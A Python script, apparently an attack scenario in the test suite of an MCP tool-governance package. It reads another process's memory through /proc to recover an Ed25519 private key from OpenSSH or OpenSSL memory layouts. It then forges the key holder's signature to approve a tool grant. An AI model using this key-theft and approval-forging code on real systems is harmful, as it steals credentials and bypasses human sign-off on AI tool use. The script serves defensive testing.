#!/usr/bin/env python3
"""Read the key out of the process of the person, who has typed the passphrase and is about to sign something else."""

import os
import re

import mallory
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

from caskmcp.govern import sign
from caskmcp.govern.public import decode

value = mallory.lock()
known = value["subjects"]["policy"][0]["statement"]["key"]
root = mallory.PACK.trust_root(1).read_text()
public = decode(re.search(r'"public": "([^"]+)"', root)[1], 32)


def candidates():
    """At each place where the public key lies: the 32 bytes before it, as in a file of OpenSSH, and those that the next pointer leads to, as
    OpenSSL keeps a key of its own (`ecx_key_st`: 57 bytes for the public part, then the address of the private one)."""
    with open(f"/proc/{os.environ['FORGE_PERSON']}/maps") as maps, open(f"/proc/{os.environ['FORGE_PERSON']}/mem", "rb", 0) as memory:
        for line in maps:
            low, high = (int(part, 16) for part in line.split()[0].split("-"))
            if " rw" not in line or high - low > 1 << 28:
                continue
            try:
                memory.seek(low)
                data = memory.read(high - low)
            except (OSError, ValueError):
                continue
            for found in re.finditer(re.escape(public), data):
                yield data[found.start() - 32 : found.start()]
                for after in (57, 63):
                    place = data[found.start() + after :][:8]
                    try:
                        memory.seek(int.from_bytes(place, "little"))
                        yield memory.read(32)
                    except (OSError, ValueError, OverflowError):
                        continue


try:
    for seed in candidates():
        if len(seed) == 32 and Ed25519PrivateKey.from_private_bytes(seed).public_key().public_bytes_raw() == public:
            thief = sign.signer(Ed25519PrivateKey.from_private_bytes(seed), "alice")
            assert thief.id == known
            mallory.approve(thief, [f"tool:{mallory.TOOL}"])
            break
except OSError as refused:
    print(refused)
mallory.ask()
